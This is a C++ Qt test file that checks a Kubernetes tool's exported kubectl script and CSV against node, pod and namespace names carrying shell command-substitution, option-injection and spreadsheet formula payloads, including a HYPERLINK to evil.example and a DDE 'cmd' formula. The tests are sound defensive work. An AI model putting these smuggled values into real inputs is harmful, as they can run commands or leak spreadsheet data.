// SPDX-License-Identifier: Apache-2.0
// The exported kubectl script and CSV (planKubectlScript, planCsv; importers/plan/planfile.h) on a
// cluster whose node, pod and namespace names carry shell and spreadsheet payloads. Kubernetes
// itself would refuse such names, and so does the kubectl JSON importer, but a .fleet document
// or a trace keeps them: the store is built from renamed records. The script runs under bash with a stub `kubectl` first on PATH
// that records each call's argv and answers `config view` from a table of contexts; every
// payload would create $PWNED. The CSV is read back with Python's csv module.

#include "importers/clusterloader.h"
#include "importers/export/planexport.h"
#include "importers/plan/planfile.h"
#include "importers/plan/plansource.h"
#include "model/clusterstore.h"
#include "model/topology.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryDir>
#include <QtTest>

#include <map>
#include <string>
#include <vector>

using namespace fleet;

namespace {

const QString kCluster = QStringLiteral(FLEET_TEST_DATA_DIR "/plan/cluster.json");
const std::string kServer = "https://prod.example:6443";

// Renamed nodes of tests/data/plan/cluster.json (hostileCluster()). No store name holds a control
// character (every importer refuses them); newlines reach the script from plan files instead
// (hostilePlan()).
const std::string kEvilNode = "cpu-a1 $(touch \"$PWNED\")`touch \"$PWNED\"`';touch \"$PWNED\";\"";
const std::string kDashNode = "--kubeconfig=/dev/null;touch \"$PWNED\"";
const std::string kEvilDestination = "b1 $(touch \"$PWNED\") # ";
// Renamed and added pods, all on kEvilNode: names that spreadsheets would run as formulas.
const std::string kEvilNamespace = "ns;$(touch \"$PWNED\")";
struct PodName {
    std::string namespaceName, name;
};
const std::vector<PodName> kEvilPods = {
    { "default", "inject;touch \"$PWNED\" #" }, // web-7f9c-aaaaa
    { "default", "`touch \"$PWNED\"` #" }, // web-7f9c-bbbbb
    // copies of web-7f9c-bbbbb asking 100m
    { kEvilNamespace, "=HYPERLINK(\"http://evil.example/\"&A1)" },
    { "default", "+1" },
    { "default", "-2+3" },
    { "default", "@SUM(1)" },
    { "default", "semi;colon,comma\"quote" },
};

const QStringList kConfigView = { QStringLiteral("config"), QStringLiteral("view"), QStringLiteral("--minify"),
    QStringLiteral("-o"), QStringLiteral("jsonpath={.clusters[0].cluster.server}") };

// The stub kubectl: one file per call, its argv NUL-separated; `--context=C config view` prints
// C's server from $STUB_CONTEXTS ("name server" lines) or fails as kubectl does (or passes the
// call to the real kubectl $STUB_REAL_KUBECTL); a call whose subcommand is $STUB_FAIL_ON fails.
const char* kStubKubectl = R"SH(#!/usr/bin/env bash
n=$(ls "$STUB_LOG" | wc -l)
printf '%s\0' "$@" > "$STUB_LOG/$(printf %05d "$n")"
if [ "${1%%=*}" = --context ] && [ "${2-}" = config ]; then
    if [ -n "${STUB_REAL_KUBECTL-}" ]; then exec "$STUB_REAL_KUBECTL" "$@"; fi
    while read -r name server; do
        if [ "$name" = "${1#--context=}" ]; then printf '%s' "$server"; exit 0; fi
    done < "$STUB_CONTEXTS"
    echo "error: cannot locate context ${1#--context=}" >&2
    exit 1
fi
if [ -n "${STUB_FAIL_ON-}" ] && [ "${2-}" = "$STUB_FAIL_ON" ]; then echo "error: $2 failed" >&2; exit 1; fi
exit 0
)SH";

QString qs(const std::string& s)
{
    return QString::fromUtf8(s.data(), static_cast<qsizetype>(s.size()));
}

QStringList context(const QString& name, const QStringList& rest)
{
    return QStringList { QStringLiteral("--context"), name } + rest;
}

// The argv of a kubectl call the script makes in context `name`: --context=NAME, one word.
QStringList kubectlCall(const QString& name, const QStringList& rest)
{
    return QStringList { QStringLiteral("--context=") + name } + rest;
}

// cluster.json with the names above, written into `dir`.
// The cluster of tests/data/plan/cluster.json with the names above: its nodes and pods as
// records, renamed, in a store of their own. No kubectl JSON can carry them (the importer holds
// names to the API server's rules, importers/kubenames.h), but a store can: a .fleet document
// keeps any name without a control character, and the script and CSV must stay safe whatever
// the store holds.
importers::LoadedCluster hostileCluster()
{
    const importers::LoadedCluster real = importers::loadClusterFiles({ kCluster.toStdString() });
    const model::ClusterStore& from = *real.store;
    auto store = std::make_shared<model::ClusterStore>();
    const std::map<std::string, std::string> renamed = { { "cpu-a1", kEvilNode }, { "cpu-a2", kDashNode }, { "cpu-b1", kEvilDestination } };
    auto rename = [&](const std::string& name) {
        const auto it = renamed.find(name);
        return it == renamed.end() ? name : it->second;
    };
    for (std::uint32_t i = 0; i < from.nodeCount(); ++i) {
        model::NodeRecord r = from.nodeRecord(model::NodeId(i));
        r.name = rename(r.name);
        store->addNode(r, from);
    }
    model::PodRecord webTemplate;
    for (std::uint32_t i = 0; i < from.podCount(); ++i) {
        model::PodRecord r = from.podRecord(model::PodId(i));
        r.nodeName = rename(r.nodeName);
        if (r.name == "web-7f9c-aaaaa") {
            r.namespaceName = kEvilPods[0].namespaceName;
            r.name = kEvilPods[0].name;
        } else if (r.name == "web-7f9c-bbbbb") {
            r.name = kEvilPods[1].name;
            webTemplate = r;
        }
        store->addPod(r, from);
    }
    // The small pods: copies of web-7f9c-bbbbb asking 100m and 100Mi.
    for (std::size_t i = 2; i < kEvilPods.size(); ++i) {
        model::PodRecord r = webTemplate;
        r.namespaceName = kEvilPods[i].namespaceName;
        r.name = kEvilPods[i].name;
        r.uid = "uid-small-" + std::to_string(i);
        r.request.setCore(model::CoreResource::Cpu, 100);
        r.request.setCore(model::CoreResource::Memory, 100 * 1024 * 1024);
        store->addPod(r, from);
    }
    (void)store->finalize();
    importers::LoadedCluster c;
    c.topology = std::make_shared<model::Topology>(model::Topology::build(*store));
    c.store = std::move(store);
    return c;
}

// A plan that drains both hostile nodes and moves a pod that is not there (it does not hold:
// its names reach the script's comments and the CSV through the action and its reasons).
importers::PlanDocument hostilePlan()
{
    importers::PlanDocument plan;
    model::PlanAction drain;
    drain.type = model::ActionType::DrainNode;
    drain.node = kEvilNode;
    plan.actions.push_back(drain);
    drain.node = kDashNode;
    plan.actions.push_back(drain);
    model::PlanAction move;
    move.type = model::ActionType::MovePod;
    move.pod = { "x\n$(touch \"$PWNED\")", "=cmd|' /C calc'!A0", "" };
    move.node = "z\ntouch \"$PWNED\"";
    plan.actions.push_back(move);
    return plan;
}

struct ScriptRun {
    int exitCode = -1;
    QByteArray out, err;
    std::vector<QStringList> calls; // each kubectl call's argv
};

} // namespace

class TstPlanScript : public QObject {
    Q_OBJECT
private slots:
    void initTestCase();
    void hostileNamesReachKubectlExactly();
    void dryRunChangesNothing();
    void refusesAnotherCluster_data();
    void refusesAnotherCluster();
    void contextFromTheEnvironment();
    void aContextNamedLikeAnOptionStaysAContext();
    void batchesWithAPause();
    void aPlanWithoutServerNeedsOne();
    void aFailedDrainStops();
    void contextCheckWithRealKubectl();
    void csvNeutralisesFormulas();

private:
    ScriptRun run(const std::string& script, const QStringList& args, const QProcessEnvironment& extra = {});
    std::string batchScript(const std::string& server) const;

    QTemporaryDir m_dir;
    importers::LoadedCluster m_cluster;
    importers::PlanEvaluation m_evaluation;
    QString m_pwned;
};

void TstPlanScript::initTestCase()
{
    QVERIFY(m_dir.isValid());
    m_cluster = hostileCluster();
    QVERIFY(m_cluster.store->findNode(kEvilNode).isValid());
    m_evaluation = importers::evaluatePlan(*m_cluster.store, *m_cluster.topology, hostilePlan());
    m_evaluation.state = importers::sourceOfLiveCluster(kServer, "42");
    QVERIFY2(m_evaluation.actions.at(0).holds && m_evaluation.actions.at(1).holds, "the drains of the hostile nodes should hold");
    QVERIFY(!m_evaluation.actions.at(2).holds);
    QVERIFY(QDir(m_dir.path()).mkpath(QStringLiteral("bin")));
    QFile stub(m_dir.filePath(QStringLiteral("bin/kubectl")));
    QVERIFY(stub.open(QIODevice::WriteOnly));
    stub.write(kStubKubectl);
    stub.close();
    QVERIFY(stub.setPermissions(QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner));
    QFile contexts(m_dir.filePath(QStringLiteral("contexts")));
    QVERIFY(contexts.open(QIODevice::WriteOnly));
    contexts.write(QByteArray::fromStdString("prod " + kServer + "\nstaging https://staging.example:6443\n--kubeconfig=/dev/null " + kServer + "\n"));
    m_pwned = m_dir.filePath(QStringLiteral("pwned"));
}

ScriptRun TstPlanScript::run(const std::string& script, const QStringList& args, const QProcessEnvironment& extra)
{
    static int runs = 0;
    const QString runDir = m_dir.filePath(QStringLiteral("run%1").arg(++runs));
    QDir().mkpath(runDir + QStringLiteral("/log"));
    const QString path = runDir + QStringLiteral("/plan.sh");
    QFile f(path);
    f.open(QIODevice::WriteOnly);
    f.write(QByteArray::fromStdString(script));
    f.close();
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.remove(QStringLiteral("FLEETSCOPE_CONTEXT"));
    env.insert(
        QStringLiteral("PATH"), m_dir.filePath(QStringLiteral("bin")) + QLatin1Char(':') + env.value(QStringLiteral("PATH")));
    env.insert(QStringLiteral("PWNED"), m_pwned);
    env.insert(QStringLiteral("STUB_LOG"), runDir + QStringLiteral("/log"));
    env.insert(QStringLiteral("STUB_CONTEXTS"), m_dir.filePath(QStringLiteral("contexts")));
    for (const QString& key : extra.keys())
        env.insert(key, extra.value(key));
    QProcess bash;
    bash.setProcessEnvironment(env);
    bash.start(QStringLiteral("bash"), QStringList { path } + args);
    ScriptRun r;
    if (!bash.waitForFinished(60'000))
        return r;
    r.exitCode = bash.exitStatus() == QProcess::NormalExit ? bash.exitCode() : -1;
    r.out = bash.readAllStandardOutput();
    r.err = bash.readAllStandardError();
    QDir log(runDir + QStringLiteral("/log"));
    for (const QString& name : log.entryList(QDir::Files, QDir::Name)) {
        QFile call(log.filePath(name));
        call.open(QIODevice::ReadOnly);
        QByteArray bytes = call.readAll();
        bytes.chop(1); // the last NUL
        QStringList argv;
        for (const QByteArray& word : bytes.split('\0'))
            argv << QString::fromUtf8(word);
        r.calls.push_back(argv);
    }
    return r;
}

// Every name reaches kubectl as one exact argument; nothing of any payload runs; the script
// shows no raw control character.
void TstPlanScript::hostileNamesReachKubectlExactly()
{
    const std::string script = importers::planKubectlScript(m_evaluation, *m_cluster.store);
    const ScriptRun r = run(script, context(QStringLiteral("prod"), { QStringLiteral("--apply") }));
    QVERIFY2(!QFile::exists(m_pwned), "a payload in a name ran");
    QVERIFY2(r.exitCode == 0, r.err.constData());
    for (const char c : script)
        QVERIFY2(c == '\n' || (static_cast<unsigned char>(c) >= 0x20 && static_cast<unsigned char>(c) < 0x7f),
            qPrintable(
                QStringLiteral("raw byte 0x%1 in the script").arg(static_cast<unsigned char>(c), 2, 16, QLatin1Char('0'))));
    const QString drain = QStringLiteral("drain"), flags1 = QStringLiteral("--ignore-daemonsets"),
                  flags2 = QStringLiteral("--delete-emptydir-data"), timeout = QStringLiteral("--timeout=10m"),
                  end = QStringLiteral("--");
    const std::vector<QStringList> expected = {
        kubectlCall(QStringLiteral("prod"), kConfigView),
        kubectlCall(QStringLiteral("prod"), { QStringLiteral("cordon"), end, qs(kEvilNode) }),
        kubectlCall(QStringLiteral("prod"), { QStringLiteral("cordon"), end, qs(kDashNode) }),
        kubectlCall(QStringLiteral("prod"), { drain, flags1, flags2, timeout, end, qs(kEvilNode) }),
        kubectlCall(QStringLiteral("prod"), { drain, flags1, flags2, timeout, end, qs(kDashNode) }),
    };
    QCOMPARE(r.calls, expected);
    // The comments still say where each pod is expected to go, escaped.
    QVERIFY2(script.find("#   default/inject;touch \"$PWNED\" # -> b1 $(touch \"$PWNED\") # \n") != std::string::npos,
        script.c_str());
    QVERIFY2(script.find("# #3 move-pod x\\n$(touch \"$PWNED\")/=cmd|' /C calc'!A0 -> z\\ntouch \"$PWNED\": does not hold")
            != std::string::npos,
        script.c_str());
    QVERIFY(script.find("readonly plan_server=https://prod.example:6443\n") != std::string::npos);
}

void TstPlanScript::dryRunChangesNothing()
{
    const ScriptRun r = run(importers::planKubectlScript(m_evaluation, *m_cluster.store), context(QStringLiteral("prod"), {}));
    QVERIFY2(r.exitCode == 0, r.err.constData());
    QCOMPARE(r.calls, std::vector<QStringList> { kubectlCall(QStringLiteral("prod"), kConfigView) });
    QVERIFY2(r.out.contains("dry run"), r.out.constData());
    QCOMPARE(r.out.count("would run: kubectl --context=prod cordon -- "), 2);
    QCOMPARE(
        r.out.count("would run: kubectl --context=prod drain --ignore-daemonsets --delete-emptydir-data --timeout=10m -- "), 2);
    QVERIFY2(r.out.contains("cordon -- --kubeconfig=/dev/null\\;touch\\ \\\"\\$PWNED\\\""), r.out.constData());
    QVERIFY(!QFile::exists(m_pwned));
}

void TstPlanScript::refusesAnotherCluster_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<int>("calls");
    QTest::addColumn<QString>("message");
    QTest::newRow("no context") << QStringList { QStringLiteral("--apply") } << 0
                                << QStringLiteral("give --context NAME (or FLEETSCOPE_CONTEXT)");
    QTest::newRow("another cluster's context") << context(QStringLiteral("staging"), { QStringLiteral("--apply") }) << 1
                                               << QStringLiteral("context \"staging\" points at https://staging.example:6443, "
                                                                 "not at https://prod.example:6443 where this plan was made");
    QTest::newRow("unknown context") << context(QStringLiteral("nope"), { QStringLiteral("--apply") }) << 1
                                     << QStringLiteral("cannot read the server of context \"nope\"");
    QTest::newRow("another --server") << context(
        QStringLiteral("prod"), { QStringLiteral("--server"), QStringLiteral("https://x:6443"), QStringLiteral("--apply") })
                                      << 0 << QStringLiteral("--server https://x:6443 is not the server this plan was made on");
    QTest::newRow("bad batch size") << context(QStringLiteral("prod"), { QStringLiteral("--batch-size"), QStringLiteral("0") })
                                    << 0 << QStringLiteral("--batch-size: expected a whole number");
    QTest::newRow("bad timeout") << context(QStringLiteral("prod"), { QStringLiteral("--timeout=$(id)") }) << 0
                                 << QStringLiteral("--timeout: expected a duration");
    QTest::newRow("unknown option") << context(QStringLiteral("prod"), { QStringLiteral("--yes") }) << 0
                                    << QStringLiteral("unknown argument: --yes");
}

void TstPlanScript::refusesAnotherCluster()
{
    QFETCH(QStringList, args);
    QFETCH(int, calls);
    QFETCH(QString, message);
    const ScriptRun r = run(importers::planKubectlScript(m_evaluation, *m_cluster.store), args);
    QCOMPARE(r.exitCode, 2);
    QVERIFY2(r.err.contains(message.toUtf8()), r.err.constData());
    QCOMPARE(static_cast<int>(r.calls.size()), calls); // at most the config view: nothing was cordoned
}

void TstPlanScript::contextFromTheEnvironment()
{
    QProcessEnvironment env;
    env.insert(QStringLiteral("FLEETSCOPE_CONTEXT"), QStringLiteral("prod"));
    const ScriptRun r = run(importers::planKubectlScript(m_evaluation, *m_cluster.store), { QStringLiteral("--apply") }, env);
    QVERIFY2(r.exitCode == 0, r.err.constData());
    QCOMPARE(r.calls.size(), std::size_t(5));
    QCOMPARE(
        r.calls.at(1).mid(0, 2), (QStringList { QStringLiteral("--context=prod"), QStringLiteral("cordon") }));
}

// A context whose name starts with '-' reaches kubectl as --context=NAME, one word: kubectl
// cannot read it as another option (here --kubeconfig, which would point it at another file).
void TstPlanScript::aContextNamedLikeAnOptionStaysAContext()
{
    const QString name = QStringLiteral("--kubeconfig=/dev/null");
    const ScriptRun r = run(importers::planKubectlScript(m_evaluation, *m_cluster.store), context(name, { QStringLiteral("--apply") }));
    QVERIFY2(r.exitCode == 0, r.err.constData());
    QCOMPARE(r.calls.size(), std::size_t(5));
    QCOMPARE(r.calls.at(0), kubectlCall(name, kConfigView));
    for (const QStringList& call : r.calls)
        QCOMPARE(call.at(0), QStringLiteral("--context=") + name);
    QVERIFY2(r.out.contains("+ kubectl --context=--kubeconfig=/dev/null cordon -- "), r.out.constData());
}

// Five drains of plain nodes (an evaluation made by hand: the script reads only its actions).
std::string TstPlanScript::batchScript(const std::string& server) const
{
    importers::PlanEvaluation e;
    for (const char* node : { "n1", "n2", "n3", "n4", "n5" }) {
        model::AppliedAction a;
        a.action.type = model::ActionType::DrainNode;
        a.action.node = node;
        a.holds = true;
        e.actions.push_back(a);
    }
    e.state.server = server;
    return importers::planKubectlScript(e, *m_cluster.store);
}

void TstPlanScript::batchesWithAPause()
{
    const ScriptRun r = run(batchScript(kServer),
        context(QStringLiteral("prod"),
            { QStringLiteral("--apply"), QStringLiteral("--batch-size"), QStringLiteral("2"), QStringLiteral("--pause=0"),
                QStringLiteral("--timeout"), QStringLiteral("90s") }));
    QVERIFY2(r.exitCode == 0, r.err.constData());
    std::vector<QStringList> expected = { kubectlCall(QStringLiteral("prod"), kConfigView) };
    const std::vector<std::vector<QString>> batches = { { "n1", "n2" }, { "n3", "n4" }, { "n5" } };
    for (const auto& batch : batches) {
        for (const QString& n : batch)
            expected.push_back(kubectlCall(QStringLiteral("prod"), { QStringLiteral("cordon"), QStringLiteral("--"), n }));
        for (const QString& n : batch)
            expected.push_back(kubectlCall(QStringLiteral("prod"),
                { QStringLiteral("drain"), QStringLiteral("--ignore-daemonsets"), QStringLiteral("--delete-emptydir-data"),
                    QStringLiteral("--timeout=90s"), QStringLiteral("--"), n }));
    }
    QCOMPARE(r.calls, expected);
    QCOMPARE(r.out.count("pausing 0 s before the next batch"), 2); // between batches, not after the last
    QVERIFY2(r.out.contains("batch 3 of 3: 1 node(s)"), r.out.constData());
}

// A plan made on files records no server: the operator names it, and it is checked all the same.
void TstPlanScript::aPlanWithoutServerNeedsOne()
{
    const std::string script = batchScript("");
    const ScriptRun refused = run(script, context(QStringLiteral("prod"), { QStringLiteral("--apply") }));
    QCOMPARE(refused.exitCode, 2);
    QVERIFY2(refused.err.contains("this plan records no API server"), refused.err.constData());
    QVERIFY(refused.calls.empty());
    const ScriptRun wrong
        = run(script, context(QStringLiteral("staging"), { QStringLiteral("--server"), qs(kServer), QStringLiteral("--apply") }));
    QCOMPARE(wrong.exitCode, 2);
    QCOMPARE(wrong.calls.size(), std::size_t(1));
    const ScriptRun ok
        = run(script, context(QStringLiteral("prod"), { QStringLiteral("--server"), qs(kServer), QStringLiteral("--apply") }));
    QVERIFY2(ok.exitCode == 0, ok.err.constData());
    QCOMPARE(ok.calls.size(), std::size_t(1 + 2 * 5));
}

void TstPlanScript::aFailedDrainStops()
{
    QProcessEnvironment env;
    env.insert(QStringLiteral("STUB_FAIL_ON"), QStringLiteral("drain"));
    const ScriptRun r = run(batchScript(kServer),
        context(QStringLiteral("prod"), { QStringLiteral("--apply"), QStringLiteral("--batch-size=2") }), env);
    QVERIFY(r.exitCode != 0);
    QCOMPARE(r.calls.size(), std::size_t(4)); // config view, cordon n1, cordon n2, drain n1: then it stopped
    QCOMPARE(r.calls.back().last(), QStringLiteral("n1"));
}

// The context check with the real kubectl answering `config view` (the stub passes that call on
// with a kubeconfig of two contexts): the query the script makes gives the context's server.
void TstPlanScript::contextCheckWithRealKubectl()
{
    const QString kubectl = QStringLiteral("/usr/lib/google-cloud-sdk/bin/kubectl.1.33");
    if (!QFile::exists(kubectl))
        QSKIP("kubectl 1.33 is not installed here: the stub's answers are not checked against kubectl's");
    const QString kubeconfig = m_dir.filePath(QStringLiteral("kubeconfig.yaml"));
    QFile f(kubeconfig);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write(QByteArray::fromStdString("apiVersion: v1\nkind: Config\nclusters:\n"
                                      "- name: a\n  cluster: {server: \""
        + kServer
        + "\"}\n"
          "- name: b\n  cluster: {server: \"https://staging.example:6443\"}\n"
          "contexts:\n- name: blue\n  context: {cluster: a, user: u}\n- name: green\n  context: {cluster: b, user: u}\n"
          "current-context: green\nusers:\n- name: u\n  user: {token: x}\n"));
    f.close();
    QProcessEnvironment env;
    env.insert(QStringLiteral("STUB_REAL_KUBECTL"), kubectl);
    env.insert(QStringLiteral("KUBECONFIG"), kubeconfig);
    const std::string script = importers::planKubectlScript(m_evaluation, *m_cluster.store);
    const ScriptRun ok = run(script, context(QStringLiteral("blue"), {}), env);
    QVERIFY2(ok.exitCode == 0, ok.err.constData());
    QVERIFY2(ok.out.contains("on context blue (https://prod.example:6443)"), ok.out.constData());
    // The kubeconfig's current context is green: the script acts on the one it is given. (The
    // contexts blue and green are only in the kubeconfig: the stub's own table does not know them.)
    const ScriptRun other = run(script, context(QStringLiteral("green"), { QStringLiteral("--apply") }), env);
    QCOMPARE(other.exitCode, 2);
    QVERIFY2(other.err.contains("points at https://staging.example:6443"), other.err.constData());
    const ScriptRun missing = run(script, context(QStringLiteral("nope"), { QStringLiteral("--apply") }), env);
    QCOMPARE(missing.exitCode, 2);
    QVERIFY2(missing.err.contains("cannot read the server of context \"nope\""), missing.err.constData());
    QCOMPARE(missing.calls.size(), std::size_t(1));
}

// Every text cell comes back from Python's csv reader as written, with a ' before a formula
// trigger; the action index stays a number.
void TstPlanScript::csvNeutralisesFormulas()
{
    const std::string csv = importers::planCsv(m_evaluation, *m_cluster.store);
    const QString path = m_dir.filePath(QStringLiteral("plan.csv"));
    QFile f(path);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write(QByteArray::fromStdString(csv));
    f.close();
    QProcess py;
    py.start(QStringLiteral("python3"),
        { QStringLiteral("-c"),
            QStringLiteral("import csv, json, sys\n"
                           "with open(sys.argv[1], newline='', encoding='utf-8') as f:\n"
                           "    print(json.dumps(list(csv.reader(f, strict=True))))\n"),
            path });
    QVERIFY(py.waitForFinished(30'000));
    QVERIFY2(py.exitCode() == 0, py.readAllStandardError().constData());
    const QJsonArray rows = QJsonDocument::fromJson(py.readAllStandardOutput()).array();
    QVERIFY(rows.size() > 1);
    auto neutral = [](const std::string& s) {
        return qs((!s.empty() && std::string("=+-@\t\r").find(s.front()) != std::string::npos ? "'" : "") + s);
    };
    QSet<QString> pods, nodes;
    for (qsizetype i = 1; i < rows.size(); ++i) {
        const QJsonArray row = rows.at(i).toArray();
        QCOMPARE(row.size(), 8);
        bool number = false;
        row.at(0).toString().toInt(&number);
        QVERIFY2(number, qPrintable(row.at(0).toString()));
        pods.insert(row.at(2).toString() + QLatin1Char('/') + row.at(3).toString());
        nodes.insert(row.at(4).toString());
        nodes.insert(row.at(5).toString());
    }
    for (const PodName& p : kEvilPods)
        QVERIFY2(pods.contains(neutral(p.namespaceName) + QLatin1Char('/') + neutral(p.name)), qPrintable(neutral(p.name)));
    // A control character from the plan is written as \xNN (it could end a row in a terminal).
    QVERIFY(pods.contains(qs("x\\x0A$(touch \"$PWNED\")/'=cmd|' /C calc'!A0")));
    QVERIFY(nodes.contains(qs(kEvilNode)));
    QVERIFY(nodes.contains(qs("'" + kDashNode)));
    QVERIFY(nodes.contains(qs(kEvilDestination)));
    // No cell of the file starts with a trigger: each field opens with ' or a quote or safe text.
    for (qsizetype i = 0; i < rows.size(); ++i)
        for (const QJsonValue& cell : rows.at(i).toArray()) {
            const QString c = cell.toString();
            QVERIFY2(c.isEmpty() || !QStringLiteral("=+-@\t\r").contains(c.front()), qPrintable(c));
        }
}

QTEST_APPLESS_MAIN(TstPlanScript)
#include "tst_planscript.moc"
